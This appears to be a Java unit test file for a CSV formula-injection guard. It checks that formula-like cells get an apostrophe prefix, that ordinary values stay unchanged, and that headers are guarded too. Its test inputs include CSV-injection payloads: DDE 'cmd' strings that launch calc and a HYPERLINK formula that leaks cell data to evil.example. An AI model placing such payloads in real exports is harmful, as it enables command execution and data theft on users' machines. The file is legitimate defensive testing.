package dev.halftone.status;

import static org.assertj.core.api.Assertions.assertThat;

import dev.halftone.catalog.CsvDialect;
import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class FormulaGuardTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "=cmd|' /C calc'!A0",
                "=HYPERLINK(\"http://evil.example?leak=\"&A1,\"click\")",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "+cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0",
                "-A1",
                "+IMPORTXML(A1)",
                "-5 pieces",
                "-1E5x",
                "  =1+1",
                "\u00a0=1+1",
                "\u200b=1+1",
                "\ufeff=1+1",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                "\t5",
                "\rtext",
                "\uff1d1+1",
                "\uff0b1+1",
                "\uff0dA1",
                "\uff20SUM(1)"
            })
    void whatWouldBeAFormulaBecomesText(String cell) {
        assertThat(FormulaGuard.neutralised(cell)).isEqualTo("'" + cell);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                " ",
                "1",
                "0003",
                "-5",
                "+5",
                "-5.25",
                "-1.234,56 €",
                "-€5",
                "- 5 %",
                "-1.5E-3",
                "+1e10",
                "+49 170 123-45/67",
                "+1 (555) 010-9999",
                "-",
                "--",
                "+/- 5",
                "-1'234.50",
                "Lamp",
                "'Chair'",
                "a=b",
                "5-10",
                "info@example.com",
                "https://a.example/?q=1",
                "5\" screen",
                " text",
                "größe"
            })
    void ordinaryValuesStay(String cell) {
        assertThat(FormulaGuard.neutralised(cell)).isEqualTo(cell);
    }

    @ParameterizedTest
    @ValueSource(strings = {"=1+1", "\t5", "-A1", " @x"})
    void anOutputThatIsAnInputAgainStays(String cell) {
        String once = FormulaGuard.neutralised(cell);

        assertThat(FormulaGuard.neutralised(once)).isEqualTo(once);
    }

    @ParameterizedTest
    @ValueSource(strings = {"=1+1", "@x"})
    void headersAreGuardedAsCellsAre(String cell) {
        OutputCsvWriter writer =
                new OutputCsvWriter(List.of("S. No.", cell), new CsvDialect(false, false, ';', "\r\n"));

        assertThat(writer.beginning()).startsWith("S. No.;'" + cell + ";");
        assertThat(writer.row(List.of("1", cell), List.of(), List.of())).startsWith("1;'" + cell + ";");
    }
}
